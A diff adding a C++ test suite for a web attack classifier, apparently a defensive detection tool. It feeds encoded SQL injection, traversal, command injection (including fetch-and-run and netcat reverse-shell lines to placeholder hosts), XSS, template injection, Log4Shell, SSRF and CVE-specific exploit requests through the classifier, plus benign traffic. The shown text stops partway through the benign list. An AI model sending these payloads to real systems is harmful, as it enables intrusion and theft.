@@ -1,0 +1,828 @@
+// Attack requests below are written from the published shapes of each attack class and CVE (OWASP
+// testing guides, vendor advisories, public detection write-ups), encoded by hand the way evasive
+// clients send them; every one goes through normalizeTarget() first, as in production. The benign
+// set imitates ordinary site traffic, including the shapes that trip naive signatures (SQL words
+// in searches, apostrophes, JSON and JWTs in query strings, Japanese text, tracking parameters).
+#include "mamori/detect/classifier.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <cstring>
+#include <memory>
+#include <set>
+#include <string>
+#include <vector>
+
+#include "mamori/detect/category.h"
+#include "mamori/detect/normalize.h"
+
+namespace mamori::detect {
+namespace {
+
+constexpr std::string_view kChrome =
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36";
+constexpr std::string_view kFirefox =
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0";
+constexpr std::string_view kSafari =
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.4.1 Safari/605.1.15";
+constexpr std::string_view kIphone =
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1";
+constexpr std::string_view kAndroid =
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.6367.82 Mobile Safari/537.36";
+constexpr std::string_view kEdge =
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67";
+constexpr std::string_view kGooglebot =
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+constexpr std::string_view kBingbot =
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
+
+struct Req {
+  std::string_view target;
+  std::string_view userAgent = kChrome;
+  std::string_view referer = "";
+  std::string_view method = "GET";
+  std::string_view host = "";
+};
+
+class ClassifierFixture : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    if (classifier_ != nullptr) return;
+    auto c = Classifier::create();
+    ASSERT_TRUE(c.ok()) << c.error().message;
+    classifier_ = std::move(c).value().release();
+  }
+
+  static Detection classify(const Req& r) {
+    HttpRequestLine line;
+    line.method = std::string(r.method);
+    line.target = std::string(r.target);
+    line.userAgent = std::string(r.userAgent);
+    line.referer = std::string(r.referer);
+    line.host = std::string(r.host);
+    NormalizedRequest n;
+    normalizeTarget(line.target, n);
+    Detection d;
+    classifier_->classify(line, n, d);
+    return d;
+  }
+
+  static std::string describe(const Detection& d) {
+    std::string s;
+    for (std::size_t c = 0; c < kCategoryCount; ++c) {
+      if (hasCategory(d.categories, static_cast<Category>(c))) {
+        s += std::string(categoryName(static_cast<Category>(c))) + "(" +
+             std::to_string(d.ruleIds[c]) + ") ";
+      }
+    }
+    return s.empty() ? "none" : s;
+  }
+
+  static bool hasCve(const Detection& d, std::string_view cve) {
+    return std::find(d.cves.begin(), d.cves.begin() + d.cveCount, cve) !=
+           d.cves.begin() + d.cveCount;
+  }
+
+  static void expectAll(Category c, const std::vector<Req>& attacks) {
+    for (const Req& r : attacks) {
+      const Detection d = classify(r);
+      EXPECT_TRUE(hasCategory(d.categories, c))
+          << categoryName(c) << " missed: " << r.target << " | ua=" << r.userAgent
+          << " | referer=" << r.referer << " | host=" << r.host << " -> " << describe(d);
+      EXPECT_NE(d.ruleIds[static_cast<std::size_t>(c)], 0u) << r.target;
+    }
+  }
+
+  static Classifier* classifier_;
+};
+
+Classifier* ClassifierFixture::classifier_ = nullptr;
+
+using ClassifierSqli = ClassifierFixture;
+using ClassifierTraversal = ClassifierFixture;
+using ClassifierSensitiveFile = ClassifierFixture;
+using ClassifierCommandInjection = ClassifierFixture;
+using ClassifierXss = ClassifierFixture;
+using ClassifierSsti = ClassifierFixture;
+using ClassifierLog4shell = ClassifierFixture;
+using ClassifierSsrf = ClassifierFixture;
+using ClassifierScanner = ClassifierFixture;
+using ClassifierExploit = ClassifierFixture;
+using ClassifierBenign = ClassifierFixture;
+using ClassifierSemantics = ClassifierFixture;
+
+// ------------------------------------------------------------------ build and rule table
+
+TEST(ClassifierBuild, EveryPatternCompiles) {
+  auto c = Classifier::create();
+  ASSERT_TRUE(c.ok()) << c.error().message;
+  ASSERT_NE(c.value(), nullptr);
+}
+
+TEST(ClassifierBuild, RuleIdsAreUniqueAndSorted) {
+  const auto rules = Classifier::rules();
+  ASSERT_FALSE(rules.empty());
+  for (std::size_t i = 1; i < rules.size(); ++i) {
+    EXPECT_LT(rules[i - 1].id, rules[i].id) << "at index " << i;
+  }
+}
+
+TEST(ClassifierBuild, EveryCategoryHasRulesAndEveryRuleIsDescribed) {
+  std::set<Category> seen;
+  for (const RuleInfo& r : Classifier::rules()) {
+    seen.insert(r.category);
+    EXPECT_FALSE(r.description.empty()) << r.id;
+    // Exploit rules exist to name the CVE an analyst looks up.
+    if (r.category == Category::kExploit) {
+      EXPECT_TRUE(r.cve.starts_with("CVE-")) << r.id;
+    }
+    if (!r.cve.empty()) {
+      EXPECT_TRUE(r.cve.starts_with("CVE-")) << r.id;
+    }
+  }
+  EXPECT_EQ(seen.size(), kCategoryCount);
+}
+
+TEST(ClassifierBuild, TokenizerRuleIsListed) {
+  const auto rules = Classifier::rules();
+  const auto it = std::find_if(rules.begin(), rules.end(),
+                               [](const RuleInfo& r) { return r.id == kSqliTokenizerRuleId; });
+  ASSERT_NE(it, rules.end());
+  EXPECT_EQ(it->category, Category::kSqli);
+}
+
+TEST(CategoryNames, RoundTrip) {
+  const std::vector<std::string_view> expected = {
+      "sqli", "path-traversal", "sensitive-file", "command-injection", "xss",
+      "ssti", "log4shell",      "ssrf",           "scanner",           "exploit"};
+  ASSERT_EQ(expected.size(), kCategoryCount);
+  for (std::size_t i = 0; i < kCategoryCount; ++i) {
+    const auto c = static_cast<Category>(i);
+    EXPECT_EQ(categoryName(c), expected[i]);
+    const auto back = parseCategory(expected[i]);
+    ASSERT_TRUE(back.has_value()) << expected[i];
+    EXPECT_EQ(*back, c);
+  }
+}
+
+TEST(CategoryNames, UnknownNamesAreRejected) {
+  EXPECT_FALSE(parseCategory("").has_value());
+  EXPECT_FALSE(parseCategory("SQLI").has_value());
+  EXPECT_FALSE(parseCategory("path_traversal").has_value());
+  EXPECT_FALSE(parseCategory("sqli ").has_value());
+}
+
+TEST(CategoryNames, MaskHelpers) {
+  CategoryMask m = maskOf(Category::kSqli) | maskOf(Category::kExploit);
+  EXPECT_TRUE(hasCategory(m, Category::kSqli));
+  EXPECT_TRUE(hasCategory(m, Category::kExploit));
+  EXPECT_FALSE(hasCategory(m, Category::kXss));
+}
+
+// ------------------------------------------------------------------ sqli
+
+TEST_F(ClassifierSqli, SignaturesCatchInjectionShapes) {
+  expectAll(Category::kSqli,
+            {
+                {"/item.php?id=1%20UNION/**/SELECT%20NULL,NULL--"},
+                {"/item.php?id=-1+union+all+select+1,2,3--"},
+                {"/item.php?id=1/*!50000UNION*/%20SELECT%201,2"},
+                {"/p?id=1%2527%2520AND%2520SLEEP(5)--"},  // double encoding
+                {"/p?q=1%27);WAITFOR%20DELAY%20%270:0:5%27--"},
+                {"/p?id=1%20AND%201=(SELECT%20COUNT(*)%20FROM%20information_schema.tables)"},
+                {"/p?id=1;EXEC%20master..xp_cmdshell%20%27dir%27"},
+                {"/login?user=admin%27--"},
+                {"/p?id=1%27%20OR%20%271%27=%271"},
+                {"/p?id=1%u0027%20or%201=1--"},   // IIS %u
+                {"/p?id=1%c0%a7%20or%202=2%23"},  // overlong quote, %23 comment
+                {"/p?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,version()))"},
+                {"/p?id=1%20ORDER%20BY%2010--"},
+                {"/p?id=1%27%20PROCEDURE%20ANALYSE()--"},
+                {"/p?id=1/**/INTO/**/OUTFILE/**/%27/var/www/html/s.php%27"},
+                {"/p?id=1%20aNd%20BeNcHmArK(5000000,MD5(1))"},  // mixed case
+                {"/p?name=x%27;DROP%20TABLE%20users;--"},
+                {"/", "Mozilla/5.0' or sleep(5)#"},
+                {"/", kChrome, "http://example.com/?id=1 union select null,null,@@version"},
+            });
+}
+
+// The next tests rely on the SQL tokenizer (sqli.h): values no signature above is specific enough
+// to catch without false positives on search text.
+TEST_F(ClassifierSqli, TokenizerQueryValue) {
+  const Detection d = classify({"/products?id=1%20or%201%3D1"});
+  ASSERT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
+  EXPECT_EQ(d.ruleIds[static_cast<std::size_t>(Category::kSqli)], kSqliTokenizerRuleId);
+  EXPECT_GE(std::strlen(d.sqliFingerprint.data()), 2u);
+}
+
+TEST_F(ClassifierSqli, TokenizerPathSegment) {
+  const Detection d = classify({"/products/1%20and%20not%201=2/reviews"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
+}
+
+TEST_F(ClassifierSqli, TokenizerRefererAndUserAgent) {
+  Detection d =
+      classify({"/", kChrome, "https://example.com/list?sort=name&id=2%20union%20select%201"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
+  d = classify({"/", "x' and 1=1 and 'a'='a"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
+}
+
+TEST_F(ClassifierSqli, TokenizerParameterWithoutEquals) {
+  const Detection d = classify({"/list?1%20union%20select%201,2"});
+  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli)) << describe(d);
+}
+
+// ------------------------------------------------------------------ path traversal
+
+TEST_F(ClassifierTraversal, Evasions) {
+  expectAll(Category::kPathTraversal,
+            {
+                {"/../../etc/passwd"},
+                {"/a/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
+                {"/a/..%c0%af..%c0%af..%c0%afetc/passwd"},  // overlong '/'
+                {"/a/..%5c..%5c..%5cwindows%5cwin.ini"},    // backslashes
+                {"/download?file=..%2F..%2F..%2Fetc%2Fpasswd"},
+                {"/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
+                {"/manager/..;/html"},                  // Tomcat path parameter
+                {"/view?page=....//....//etc/passwd"},  // stripped-once evasion
+                {"/show?file=/etc/passwd"},             // absolute path parameter
+                {"/img?f=..%5C..%5Cboot.ini"},
+                {"/x?template=../config.php"},
+                {"/a/b/%u002e%u002e/%u002e%u002e/secret"},  // %u, stays under the root
+                {"/static/..%00/..%00/etc/passwd"},         // NUL bytes
+                {"/files?path=c:\\windows\\win.ini"},
+                {"/A/%2E%2E/%2E%2E/%2E%2E/ETC/PASSWD"},  // upper case
+            });
+}
+
+// ------------------------------------------------------------------ sensitive files
+
+TEST_F(ClassifierSensitiveFile, CommonProbesAndEvasions) {
+  expectAll(Category::kSensitiveFile,
+            {
+                {"/.env"},
+                {"/%2eenv"},
+                {"/api/.env.production"},
+                {"/.git/config"},
+                {"/.git/HEAD"},
+                {"/.SVN/entries"},
+                {"/wp-config.php.bak"},
+                {"/wp-config.php~"},
+                {"/backup.zip"},
+                {"/db.sql"},
+                {"/example.com.tar.gz"},
+                {"/.DS_Store"},
+                {"/.htpasswd"},
+                {"/phpinfo.php"},
+                {"/server-status"},
+                {"/.aws/credentials"},
+                {"/docker-compose.yml"},
+                {"/config.php~"},
+                {"/index.php.swp"},
+                {"/.ssh/id_rsa"},
+                {"/web.config"},
+                {"/proc/self/environ"},
+                {"/index.php?file=..%2f..%2f..%2f..%2fetc%2fshadow"},
+                {"/cgi-bin/..%5c..%5cwinnt%5cwin.ini"},
+                {"/view?f=%2Fetc%2Fpasswd%00.jpg"},
+                {"/server.key"},
+                {"/backup.sql%00.html"},  // the server stops at the NUL
+                {"/config/secrets.yml%2500.jpg"},
+                {"/download?file=..%5C..%5Cconfig%5Cdatabase.yml"},
+                {"/index.php?page=php://filter/convert.base64-encode/resource=index.php"},
+            });
+}
+
+// ------------------------------------------------------------------ command injection
+
+TEST_F(ClassifierCommandInjection, SeparatorsCommandsAndEvasions) {
+  expectAll(Category::kCommandInjection,
+            {
+                {"/ping?host=127.0.0.1;cat%20/etc/passwd"},
+                {"/ping?host=127.0.0.1%7Cid"},
+                {"/cgi?x=%60whoami%60"},
+                {"/c?ip=1.1.1.1$(wget%20http://198.51.100.7/x.sh)"},
+                {"/c?ip=1%0Auname%20-a"},
+                {"/c?cmd=;${IFS}cat${IFS}/etc/passwd"},
+                {"/c?x=127.0.0.1%26%26curl%20evil.example|sh"},
+                {"/c?x=|powershell%20-enc%20AAAA"},
+                {"/c?x=;w%27%27hoami"},  // empty quotes inside a command name
+                {"/c?x=%3Bnc%20-e%20/bin/sh%2010.0.0.1%204444"},
+                {"/c?x=%253Bping%2520-c%25203%2520198.51.100.9"},  // double encoding
+                {"/c?x=%26%26cmd.exe%20/c%20dir"},
+                {"/index.php?page=php://input"},
+                {"/", "() { :; }; /bin/bash -c \"cat /etc/passwd\""},
+                {"/c?x={cat,/etc/passwd}"},
+                {"/viewer?doc=%26+net+user"},  // '&' then a space: no parameter starts so
+                {"/download?file=file.txt;%09ls"},
+            });
+}
+
+// ------------------------------------------------------------------ xss
+
+TEST_F(ClassifierXss, TagsHandlersSchemesAndEvasions) {
+  expectAll(Category::kXss,
+            {
+                {"/search?q=<script>alert(1)</script>"},
+                {"/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"},
+                {"/search?q=%253Csvg%252Fonload%253Dalert%25281%2529%253E"},
+                {"/search?q=&lt;script&gt;alert(document.cookie)&lt;/script&gt;"},
+                {"/r?url=javascript:alert(1)"},
+                {"/r?url=java%09script:alert(1)"},
+                {"/search?q=%22%3E%3Cbody%20onload=alert(1)%3E"},
+                {"/p?name=%u003Ciframe%20src=//evil.example%3E"},
+                {"/p?x=%27%20onmouseover=%27alert(1)"},
+                {"/p?x=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
+                {"/p?x=<div%20style=%22width:expression(alert(1))%22>"},
+                {"/p?q=%3CScRiPt%3Econfirm%60%60%3C/sCrIpT%3E"},
+                {"/p?q=&#x3C;svg&#x20;onload&#x3D;prompt(1)&#x3E;"},
+                {"/", "<script>alert(1)</script>"},
+                {"/", kChrome, "https://example.com/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"},
+            });
+}
+
+// ------------------------------------------------------------------ ssti
+
+TEST_F(ClassifierSsti, EnginesAndProbes) {
+  expectAll(Category::kSsti,
+            {
+                {"/p?name={{7*7}}"},
+                {"/p?name=%7B%7B7*%277%27%7D%7D"},
+                {"/p?name=${7*7}"},
+                {"/p?name=%23%7B7*7%7D"},
+                {"/p?name=%3C%25%3D%207*7%20%25%3E"},
+                {"/p?name={{config.items()}}"},
+                {"/p?name={{%27%27.__class__.__mro__[1].__subclasses__()}}"},
+                {"/p?x=%3C%23assign%20ex=%22freemarker.template.utility.Execute%22?new()%3E"},
+                {"/p?x=%23set(%24x=1)"},
+                {"/p?x=*{T(java.lang.Runtime).getRuntime().exec(%27id%27)}"},
+                {"/p?x=%25{(%23_memberAccess[%27allowStaticMethodAccess%27]=true)}"},
+                {"/p?x=${T(java.lang.Runtime).getRuntime()}"},
+                {"/p?x={{constructor.constructor(%27alert(1)%27)()}}"},
+                {"/p?x=%257B%257B7*7%257D%257D"},  // double encoding
+                {"/p?x=%7B%7Bdump(app)%7D%7D"},
+                {"/p?x={$smarty.version}"},
+                {"/p?x=%24%7BpageContext.request.serverName%7D"},
+            });
+}
+
+// ------------------------------------------------------------------ log4shell
+
+TEST_F(ClassifierLog4shell, LookupsInEveryField) {
+  expectAll(Category::kLog4shell,
+            {
+                {"/?x=${jndi:ldap://evil.example/a}"},
+                {"/", "${jndi:ldap://198.51.100.4:1389/a}"},
+                {"/", "${${lower:j}ndi:${lower:l}dap://x.example/a}"},
+                {"/", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}"},
+                {"/", kChrome,
+                 "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}"},
+                {"/", kChrome, "", "GET", "${jndi:dns://x.example}"},
+                {"/%24%7Bjndi:rmi://x.example/a%7D"},
+                {"/?q=%2524%257Bjndi%253Aldaps%253A%252F%252Fx.example%252Fa%257D"},
+                {"/", "${jndi:${lower:l}${lower:d}a${lower:p}://x.example}"},
+                {"/", "${${upper:J}NDI:iiop://x.example}"},
+                {"/", "${env:AWS_SECRET_ACCESS_KEY}"},
+            });
+}
+
+// ------------------------------------------------------------------ ssrf
+
+TEST_F(ClassifierSsrf, InternalTargetsInParameters) {
+  expectAll(Category::kSsrf,
+            {
+                {"/fetch?url=http://169.254.169.254/latest/meta-data/"},
+                {"/fetch?url=http://metadata.google.internal/computeMetadata/v1/"},
+                {"/fetch?url=http://100.100.100.200/latest/meta-data"},
+                {"/fetch?url=http://127.0.0.1:8080/admin"},
+                {"/fetch?url=http://localhost/"},
+                {"/fetch?url=http://2130706433/"},
+                {"/fetch?url=http://0x7f000001/"},
+                {"/fetch?url=http://0177.0.0.1/"},
+                {"/fetch?url=file:///etc/passwd"},
+                {"/fetch?url=gopher://127.0.0.1:6379/_INFO"},
+                {"/fetch?url=dict://localhost:11211/stat"},
+                {"/fetch?url=http://[::1]/"},
+                {"/fetch?url=http%253A%252F%252F169.254.169.254%252F"},
+                {"/proxy?u=http://user@127.0.0.1/"},
+                {"/img?src=http://192.168.0.1/setup.cgi"},
+                {"/img?src=http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"},
+                {"/img?src=jar:http://203.0.113.50/x.jar!/"},
+                {"http://169.254.169.254/"},  // absolute-form: the authority is the target
+                {"/", kChrome, "", "GET", "metadata.google.internal"},
+            });
+}
+
+// ------------------------------------------------------------------ scanner
+
+TEST_F(ClassifierScanner, ToolFingerprintsAreReconnaissance) {
+  const std::vector<Req> probes = {
+      {"/", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+      {"/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
+      {"/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
+      {"/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
+      {"/", "Mozilla/5.0 zgrab/0.x"},
+      {"/", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
+      {"/", "gobuster/3.6"},
+      {"/", "Fuzz Faster U Fool v2.1.0-dev"},
+      {"/", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
+      {"/?x=abc123.oastify.com"},
+      {"/nessus_is_probing_you_"},
+      {"/acunetix-wvs-test-for-some-inexistent-file"},
+      {"/w00tw00t.at.ISC.SANS.DFind:)"},
+      {"/HNAP1/", "Mozilla/5.0"},
+      {"/", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1) acunetix_wvs_security_test"},
+  };
+  expectAll(Category::kScanner, probes);
+  // Nmap's service probe asks for a ".bak" file: scanner, and a backup-file request besides.
+  expectAll(Category::kScanner, {{"/nice%20ports%2C/Tri%6Eity.txt%2ebak"}});
+  for (const Req& r : probes) {
+    const Detection d = classify(r);
+    EXPECT_TRUE(d.reconnaissanceOnly) << r.target << " " << r.userAgent << " -> " << describe(d);
+  }
+}
+
+// ------------------------------------------------------------------ exploits
+
+struct ExploitCase {
+  Req req;
+  std::string_view cve;
+  CategoryMask alsoExpected;
+};
+
+TEST_F(ClassifierExploit, KnownApplianceExploitsNameTheirCve) {
+  const CategoryMask trav = maskOf(Category::kPathTraversal);
+  const CategoryMask cmd = maskOf(Category::kCommandInjection);
+  const CategoryMask file = maskOf(Category::kSensitiveFile);
+  const std::vector<ExploitCase> cases = {
+      {{"/ssl-vpn/hipreport.esp/"
+        "..%2f..%2f..%2fopt%2fpanlogs%2ftmp%2fdevice_telemetry%2fminute%2fx%60id%60",
+        kChrome, "", "POST"},
+       "CVE-2024-3400",
+       trav},
+      {{"/global-protect/portal/images/watchtowr.txt"}, "CVE-2024-3400", 0},
+      {{"/ssl-vpn/hipreport.esp", kChrome, "", "POST"}, "CVE-2024-3400", 0},
+      {{"/icons/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"}, "CVE-2021-42013", trav},
+      {{"/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/"
+        "guacamole/"},
+       "CVE-2019-11510",
+       trav | file},
+      {{"/console/css/"
+        "%252e%252e%252fconsole.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh."
+        "ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)"},
+       "CVE-2020-14882",
+       trav | maskOf(Category::kSsti)},
+      {{"/api/v2/cmdb/system/admin/admin", "Report Runner", "", "PUT"}, "CVE-2022-40684", 0},
+      {{"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
+       "CVE-2018-13379",
+       trav | file},
+      {{"/remote/VPN", kChrome, "", "POST"}, "CVE-2024-21762", 0},
+      {{"/remote/hostcheck_validate", kChrome, "", "POST"}, "CVE-2024-21762", 0},
+      {{"/api/v1/totp/user-backup-code/../../license/keys-status/"
+        "%3Bpython%20-c%20%27import%20os%27%3B"},
+       "CVE-2023-46805",
+       trav},
+      {{"/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20http://198.51.100.2/"
+        "x%7Csh"},
+       "CVE-2024-21887",
+       cmd},
+      {{"/clients/MyCRL", kChrome, "", "POST"}, "CVE-2024-24919", trav},
+      {{"/vpn/../vpns/cfg/smb.conf"}, "CVE-2019-19781", trav},
+      {{"/vpns/portal/scripts/newbm.pl", kChrome, "", "POST"}, "CVE-2019-19781", 0},
+      {{"/gwtest/formssso?event=start&target=AAAAAAAAAAAAAAAAAAAAAAAA"}, "CVE-2023-3519", 0},
+      {{"/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40"
+        "getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com."
+        "opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-"
+        "Response%22%2C%23a%29%29%7D/"},
+       "CVE-2022-26134",
+       maskOf(Category::kSsti)},
+      {{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", kChrome, "", "POST"}, "CVE-2021-41773", trav | cmd},
+      {{"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"}, "CVE-2021-41773", trav | file},
+      {{"/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
+       "CVE-2022-22965",
+       0},
+      {{"/mgmt/tm/util/bash", kChrome, "", "POST"}, "CVE-2022-1388", cmd},
+      {{"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"},
+       "CVE-2020-5902",
+       trav},
+      {{"/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/"
+        "autodiscover.json%3F@evil.example"},
+       "CVE-2021-34473",
+       0},
+      {{"/index.php?s=/Index/\\think\\app/"
+        "invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"},
+       "CVE-2018-20062",
+       0},
+      {{"/user/register?element_parents=account/mail/"
+        "%23value&ajax_form=1&_wrapper_format=drupal_ajax"},
+       "CVE-2018-7600",
+       0},
+      {{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", kChrome, "", "POST"},
+       "CVE-2017-9841",
+       cmd},
+      {{"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
+        kChrome, "", "POST"},
+       "CVE-2024-4577",
+       cmd},
+      {{"/index.php?routestring=ajax/render/widget_php", kChrome, "", "POST"}, "CVE-2019-16759", 0},
+      {{"/cgi-bin/status", "() { :; }; echo; /bin/cat /etc/passwd"}, "CVE-2014-6271", cmd},
+  };
+  for (const ExploitCase& c : cases) {
+    const Detection d = classify(c.req);
+    EXPECT_TRUE(hasCategory(d.categories, Category::kExploit))
+        << c.req.target << " -> " << describe(d);
+    EXPECT_TRUE(hasCve(d, c.cve)) << c.req.target << " expected " << c.cve;
+    EXPECT_EQ(d.categories & c.alsoExpected, c.alsoExpected)
+        << c.req.target << " -> " << describe(d);
+    EXPECT_FALSE(d.reconnaissanceOnly) << c.req.target;
+  }
+}
+
+TEST_F(ClassifierExploit, MethodBoundRulesNeedTheirMethod) {
+  // The FortiOS and Check Point rules describe a POST; a GET of the same path is a page view.
+  EXPECT_FALSE(
+      hasCategory(classify({"/remote/VPN", kChrome, "", "GET"}).categories, Category::kExploit));
+  EXPECT_FALSE(
+      hasCategory(classify({"/clients/MyCRL", kChrome, "", "GET"}).categories, Category::kExploit));
+  EXPECT_TRUE(hasCategory(classify({"/clients/MyCRL", kChrome, "", "post"}).categories,
+                          Category::kExploit));
+}
+
+// ------------------------------------------------------------------ benign traffic
+
+TEST_F(ClassifierBenign, RealisticTrafficRaisesNothing) {
+  const std::vector<Req> benign = {
+      {"/"},
+      {"/index.html", kFirefox},
+      {"/favicon.ico", kSafari},
+      {"/robots.txt", kGooglebot},
+      {"/sitemap.xml", kBingbot},
+      {"/about/", kIphone, "https://www.google.com/"},
+      {"/news/2024/03/15/press-release.html", kAndroid, "https://t.co/AbC123xyz"},
+      {"/static/js/app.3f9a1c.min.js", kEdge, "https://www.example.go.jp/"},
+      {"/static/css/main.css?v=20240301"},
+      {"/assets/fonts/NotoSansJP-Regular.woff2"},
+      {"/images/logo@2x.png"},
+      {"/wp-content/themes/twentytwentyfour/style.css?ver=6.4.3"},
+      {"/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.8"},
+      {"/wp-login.php", kFirefox},
+      {"/wp-admin/admin-ajax.php?action=heartbeat", kChrome, "https://example.com/wp-admin/"},
+      {"/search?q=select+a+plan+from+the+list"},
+      {"/search?q=union+station+to+select+city"},
+      {"/search?q=how+to+drop+a+table+leg"},
+      {"/search?q=O%27Reilly+books"},
+      {"/search?q=rock+%27n%27+roll"},
+      {"/search?q=kids%27+--+toys"},
+      {"/search?q=%22exact+phrase%22+search"},
+      {"/search?q=%E6%9D%B1%E4%BA%AC%E9%83%BD+%E5%A4%A9%E6%B0%97", kIphone},
+      {"/search?q=%E3%83%9E%E3%82%A4%E3%83%8A%E3%83%B3%E3%83%90%E3%83%BC%E3%82%AB%E3%83%BC%E3%83%"
+       "89"},
+      {"/search?q=%E5%8E%9F%E5%AD%90%E5%8A%9B+%E8%A6%8F%E5%88%B6&page=2"},
+      {"/search?q=1+or+2+people"},
+      {"/search?q=sleep+apnea+treatment"},
+      {"/search?q=cat+food+for+kittens"},
+      {"/search?q=C%2B%2B+templates"},
+      {"/search?q=what+is+%7B%7Bmustache%7D%7D"},
+      {"/search?q=price+%3C+100"},
+      {"/search?q=earthquake+alert+system"},
+      {"/search?q=javascript+tutorial"},
+      {"/search?q=%3Cb%3Ebold%3C%2Fb%3E+tag"},
+      {"/search?q=on+sale+items"},
+      {"/search?q=email%40example.com"},
+      {"/search?q=Tom+%26+Jerry"},
+      {"/search?q=%22hello%22+OR+%22world%22"},
+      {"/products?id=12345&color=red&size=M"},
+      {"/products/12345/reviews?page=2&sort=newest"},
+      {"/api/v1/users/42?fields=name,email"},
+      {"/api/v2/"
+       "search?filter=%7B%22status%22%3A%22active%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D"},
+      {"/api/v1/orders?status=pending&created_after=2024-01-01T00:00:00Z"},
+      {"/callback?code=4%2F0AX4XfWh&state=xyz&scope=email+profile"},
+      {"/auth/"
+       "callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6"
+       "IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
+      {"/landing?utm_source=google&utm_medium=cpc&utm_campaign=spring_sale&gclid=EAIaIQobChMI8eP7"
+       "kZ2Q_wIVGtZMAh0xTgZ4EAAYASAAEgK5ZvD_BwE"},
+      {"/landing?fbclid=IwAR2F4-dbP0l7Mn1FkQm3_h5ZL8sXxTqG9yVwB4J7nR2aC0dE6fH8iK1lM3o&utm_content="
+       "a|b|c"},
+      {"/img?data=iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+Phf/"
+       "DwAChwGA60e6kgAAAAB"
+       "JRU5ErkJggg%3D%3D"},
+      {"/share?text=I%27m+here%21&url=https%3A%2F%2Fexample.com%2Fpage"},
+      {"/redirect?to=https%3A%2F%2Fwww.example.org%2Fnews%3Fid%3D5"},
+      {"/login?next=%2Faccount%2Fsettings"},
+      {"/logout?return=/home"},
+      {"/download?file=annual-report-2023.pdf"},
+      {"/download/reports/2023/summary.zip"},
+      {"/files/open-data/population.csv"},
+      {"/calendar?date=2024-04-01&view=month"},
+      {"/cart?item=sku-123&qty=2&coupon=SPRING10"},
+      {"/comments?author=O%27Brien&text=Great+article%2C+thanks%21"},
+      {"/en/products/tv-55-inch-4k/"},
+      {"/ja/%E3%81%8A%E7%9F%A5%E3%82%89%E3%81%9B/", kAndroid},
+      {"/path/with%20space/file.html"},
+      {"/feed.xml", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)"},
+      {"/.well-known/acme-challenge/abc123XYZ",
